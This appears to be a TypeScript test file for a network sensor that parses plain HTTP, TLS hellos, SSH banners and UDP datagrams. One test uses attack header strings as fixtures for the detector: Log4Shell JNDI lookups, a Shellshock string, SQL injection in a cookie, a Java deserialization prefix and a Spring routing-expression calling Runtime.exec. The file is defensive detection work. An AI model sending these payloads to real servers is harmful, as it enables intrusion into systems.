/** Payloads read on the spot: what is plain is read, what is not is left to the dissector untouched. @module */

import { assert, assertEquals } from "@std/assert";
import { PlainMemory, readPlain } from "../../../../sensor/dissect/plain/plain.ts";
import { plainKind } from "../../../../sensor/dissect/plain/plain_kind.ts";
import { mayHaveName } from "../../../../sensor/dissect/udp_signs.ts";
import { bytesOf, packetOf } from "../fixture.ts";
import { newFacts, written } from "../readings.ts";

function read(kind: number, payload: Uint8Array | string, isFromServer = false) {
  const octets = typeof payload === "string" ? bytesOf(payload) : payload;
  // Somewhere inside a larger buffer, as captures are.
  const buffer = new Uint8Array(octets.length + 8).fill(0x58);
  buffer.set(octets, 5);
  const where = {
    plainKind: kind,
    plainOffset: 5,
    plainLength: octets.length,
    plainIsCut: false,
    plainPort: 80,
    isFromServer,
    plainSeq: 0,
  };
  const facts = newFacts();
  const app = readPlain(where, buffer, facts, 1, new PlainMemory());
  return { app, facts: written(facts) };
}

const request = "GET /a?b=1 HTTP/1.1\r\nHost: x.example\r\nUSER-AGENT:  y/1\r\nAccept: */*\r\n\r\n";

Deno.test("a plain HTTP request and response are read", () => {
  const message = { method: "GET", uri: "/a?b=1", host: "x.example", user_agent: "y/1" };
  assertEquals(read(plainKind.http, request), { app: "http", facts: { http: [message] } });
  const response = "HTTP/1.1 404 Not Found\r\nContent-Type: text/html; a=b\r\nHost: z\r\n\r\n<html>";
  assertEquals(read(plainKind.http, response).facts.http, [
    { status: 404, content_type: "text/html; a=b", magic: "html" },
  ]);
});

Deno.test("of other headers one that tells of an attack is kept, with what stands around it", () => {
  const of = (line: string) =>
    read(plainKind.http, request.replace("Accept: */*", line)).facts.http?.[0].header;
  assertEquals(
    of("X-Api-Version: ${${lower:j}ndi:ldap://x/a}"),
    "X-Api-Version: ${${lower:j}ndi:ldap://x/a}",
  );
  assertEquals(of("X-A: a\tb () { :;}; id"), "X-A: a b () { :;}; id");
  assertEquals(of("Cookie: a=1; id=7' and 1=1"), "Cookie: a=1; id=7' and 1=1");
  assertEquals(of("Cookie: s=rO0ABXNyABFqYXZh"), "Cookie: s=rO0ABXNyABFqYXZh");
  assertEquals(of('Authorization: Basic ${jndi:dns://"x"}'), 'Authorization: Basic ${jndi:dns://"x"}');
  const routing = "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(1)";
  assertEquals(of(routing), routing);
  assertEquals(of("X-A: #{7*7}\r\nX-B: ${x}"), "X-A: #{7*7}", "the first");
  assertEquals(
    of(`${"N".repeat(300)}: ${"v".repeat(300)}{{${"w".repeat(300)}`),
    `${"N".repeat(40)}: ${"v".repeat(24)}{{${"w".repeat(148)}`,
    "bounded",
  );
  for (
    const honest of [
      'Cookie: c={"a":{"b":[1]}}; name=\'x\'; o=O\'Brien; p=OOABr0OA',
      'sec-ch-ua: "Not(A:Brand";v="24"',
      "Range: bytes=0-99",
      "Accept: text/html,*/*;q=0.8",
      "X-{}: 1",
    ]
  ) assertEquals(of(honest), undefined, honest);
  const response = "HTTP/1.1 200 OK\r\nX-A: ${jndi:x}\r\n\r\n";
  assertEquals(read(plainKind.http, response).facts.http, [{ status: 200 }]);
});

Deno.test("an HTTP body is told by its first octets, with the header or behind it", () => {
  const head = "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: 9000\r\n\r\n";
  const said = { status: 200, content_type: "image/png", length: 9_000 };
  const of = (body: string) => read(plainKind.http, head + body).facts.http;
  assertEquals(of("MZ\x90\0"), [{ ...said, magic: "exe" }]);
  assertEquals(of("\x7fELF\x02"), [{ ...said, magic: "elf" }]);
  assertEquals(of("2000\r\nPK\x03\x04"), [{ ...said, magic: "zip" }]);
  assertEquals(of("#!/bin/sh\n"), [{ ...said, magic: "script" }]);
  assertEquals(of("\x89PNG"), [said]);
  assertEquals(of("M"), [said]);
  assertEquals(read(plainKind.responseBody, "MZ\x90").facts.http, [{ magic: "exe" }]);
  const post = "POST /a HTTP/1.1\r\nReferer: http://x/\r\nContent-Length: 300\r\n\r\n";
  const body = 'a="1"\n' + "x".repeat(200);
  const expected = 'a="1".' + "x".repeat(122);
  assertEquals(read(plainKind.http, post + body).facts.http, [
    { method: "POST", uri: "/a", referrer: "http://x/", length: 300, body: expected },
  ]);
  assertEquals(read(plainKind.requestBody, body).facts.http, [{ body: expected }]);
  for (const odd of ["007", "12a", "-1", "1".repeat(16)]) {
    assertEquals(read(plainKind.http, post.replace("300", odd)).app, null, odd);
  }
});

Deno.test("the answer to CONNECT is left to the dissector, which is to expect another protocol behind it", () => {
  const answer = (words: string) => read(plainKind.http, `HTTP/1.1 ${words}\r\n\r\n`).app;
  assertEquals(answer("200 Connection established"), null);
  assertEquals(answer("200 connected\r\nVia: x"), null);
  assertEquals(answer("200 OK"), "http");
  assertEquals(answer("204 Connection established"), "http");
  assertEquals(answer("200 Connection established\r\nContent-Type: text/html"), "http");
});

Deno.test("a body behind its header stands with it", () => {
  const facts = newFacts();
  const reads = (kind: number, text: string) => {
    const buffer = bytesOf(text);
    const where = {
      plainKind: kind,
      plainOffset: 0,
      plainLength: buffer.length,
      plainIsCut: false,
      plainPort: 80,
      plainSeq: 0,
    };
    readPlain(
      { ...where, isFromServer: kind === plainKind.responseBody },
      buffer,
      facts,
      1,
      new PlainMemory(),
    );
  };
  reads(plainKind.http, "POST /a HTTP/1.1\r\nHost: x\r\n\r\n");
  reads(plainKind.requestBody, "q=1");
  reads(plainKind.http, "HTTP/1.1 200 OK\r\nServer: x\r\n\r\n");
  reads(plainKind.responseBody, "MZ");
  // Of a request that is not the last message.
  reads(plainKind.requestBody, "z");
  assertEquals(written(facts).http, [
    { method: "POST", uri: "/a", host: "x", body: "q=1" },
    { status: 200, magic: "exe" },
    { body: "z" },
  ]);
});

Deno.test("an HTTP message that is not plain is left alone", () => {
  const odd = [
    request.slice(0, -2),
    request.replace("GET", "CONNECT"),
    request.replace("/a?b=1", "/a b"),
    request.replace("/a", '/"a'),
    request.replace("1.1", "2.0"),
    request.replace("Accept", "Host"),
    request.replace("Accept: */*", "Upgrade: websocket"),
    request.replace("Accept: */*", "Authorization: NTLM TlRMTVNTUAAB"),
    request.replace("Accept: */*", " folded"),
    request.replace("Accept: */*", "no colon"),
    request.replace("Accept", "Acc\xe9pt"),
    request.replace("x.example", "x.example "),
    request.replaceAll("\r\n", "\n"),
    request + request,
    "HTTP/1.1 100 Continue\r\n\r\n",
    request.replace("Accept: */*\r\n", "A: b\r\n".repeat(100)),
  ];
  for (const text of odd) assertEquals(read(plainKind.http, text), { app: null, facts: {} }, text);
});

/** A ClientHello in one record: SNI, groups, point formats, algorithms, ALPN, versions, and GREASE. */
function hello(change: (octets: number[]) => void = () => {}): Uint8Array {
  const name = [...bytesOf("a.example")];
  const extension = (type: number, body: number[]) => [type >> 8, type & 255, 0, body.length, ...body];
  const extensions = [
    ...extension(0x0a0a, []),
    ...extension(0, [0, name.length + 3, 0, 0, name.length, ...name]),
    ...extension(10, [0, 4, 0x1a, 0x1a, 0, 29]),
    ...extension(11, [1, 0]),
    ...extension(13, [0, 2, 4, 3]),
    ...extension(16, [0, 3, 2, 0x68, 0x32]),
    ...extension(43, [4, 3, 4, 3, 3]),
  ];
  const random = new Array<number>(32).fill(9);
  const body = [3, 3, ...random, 0, 0, 4, 0x2a, 0x2a, 0x13, 1, 1, 0, 0, extensions.length, ...extensions];
  const octets = [22, 3, 1, 0, body.length + 4, 1, 0, 0, body.length, ...body];
  change(octets);
  return Uint8Array.from(octets);
}

Deno.test("a plain ClientHello is read", () => {
  const { app, facts } = read(plainKind.hello, hello());
  assertEquals(app, "tls");
  const { ja3, ja4, ...rest } = facts.tls!;
  assertEquals(rest, { sni: "a.example", version: "TLS 1.3", alpn: "h2" });
  // MD5 of "771,4865,0-10-11-13-16-43,29,0".
  assertEquals(ja3, "57fb4e948b11bc6efc5ae6d52af62cb1");
  assertEquals(ja4?.slice(0, 10), "t13d0106h2");
});

Deno.test("a ClientHello that is cut, lies about a length or holds odd octets is left alone", () => {
  const whole = hello();
  for (let length = 0; length < whole.length; length++) {
    assertEquals(read(plainKind.hello, whole.subarray(0, length)), { app: null, facts: {} });
  }
  for (let at = 3; at < whole.length; at++) {
    // Whatever one octet is, the reading ends, and without a reading nothing is added.
    const { app, facts } = read(plainKind.hello, hello((octets) => octets[at] ^= 0xff));
    if (app === null) assertEquals(facts, {});
  }
  assertEquals(read(plainKind.hello, Uint8Array.from([...whole, 22, 3, 1, 0, 1, 1])).app, null);
});

Deno.test("a ServerHello is read unless a certificate follows", () => {
  const body = [3, 3, ...new Array<number>(32).fill(9), 0, 0x13, 2, 0, 0, 6, 0, 43, 0, 2, 3, 4];
  const octets = [22, 3, 3, 0, body.length + 4, 2, 0, 0, body.length, ...body];
  const { app, facts } = read(plainKind.hello, Uint8Array.from([...octets, 20, 3, 3, 0, 1, 1]));
  assertEquals(app, "tls");
  const { ja3s, ...rest } = facts.tls!;
  assertEquals(rest, { version: "TLS 1.3", cipher: "TLS_AES_256_GCM_SHA384" });
  assertEquals(ja3s, "13b064e3d43575147f6ca25c24556a31");
  assertEquals(read(plainKind.hello, Uint8Array.from([...octets, 22, 3, 3, 0, 9])).app, null);
});

Deno.test("an SSH banner tells the side it came from", () => {
  assertEquals(read(plainKind.ssh, "SSH-2.0-c\r\n").facts, { ssh: { client: "SSH-2.0-c" } });
  assertEquals(read(plainKind.ssh, "SSH-2.0-s\nrest", true).facts, { ssh: { server: "SSH-2.0-s" } });
  assertEquals(read(plainKind.ssh, "SSH-2.0-no end"), { app: null, facts: {} });
  assertEquals(read(plainKind.ssh, "SSH-2.0-\x07\r\n"), { app: null, facts: {} });
});

Deno.test("a datagram without any sign is not worth a name", () => {
  const first = (octets: number[], ports: { srcPort: number; dstPort: number }) => {
    const { packet, buffer } = packetOf(Uint8Array.from(octets), { protocol: 17, ...ports });
    return mayHaveName(packet, buffer);
  };
  const high = { srcPort: 40_000, dstPort: 50_000 };
  const gnutella = [0x47, 0x4e, 0x44, 2, ...new Array<number>(20).fill(0)];
  assert(!first(gnutella, high));
  assert(first(gnutella, { ...high, dstPort: 123 }));
  assert(first(gnutella, { ...high, srcPort: 51_820 }));
  const stun = [0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42, ...new Array<number>(12).fill(7)];
  assert(first(stun, high));
  assert(first([...bytesOf("d1:ad2:id20:")], high));
  assert(first([...bytesOf("INVITE sip:a SIP/2.0")], high));
  assert(first([22, 0xfe, 0xfd, ...new Array<number>(20).fill(0)], high));
  const long = (...version: number[]) => [0xc3, ...version, 8, ...new Array<number>(20).fill(7)];
  for (
    const version of [[0, 0, 0, 1], [0, 0, 0, 0], [0x6b, 0x33, 0x43, 0xcf], [0xff, 0, 0, 29], [
      0x1a,
      0x2a,
      0x3a,
      0x4a,
    ]]
  ) {
    assert(first(long(...version), high), `QUIC ${version}`);
  }
  assert(!first(long(0xd7, 0x31, 0x02, 0x2b), high), "no version of QUIC");
  const report = (words: number) => [0x81, 200, words >> 8, words & 255, ...new Array<number>(24).fill(1)];
  assert(first(report(6), high), "RTCP");
  assert(!first(report(7), high), "longer than the datagram");
});
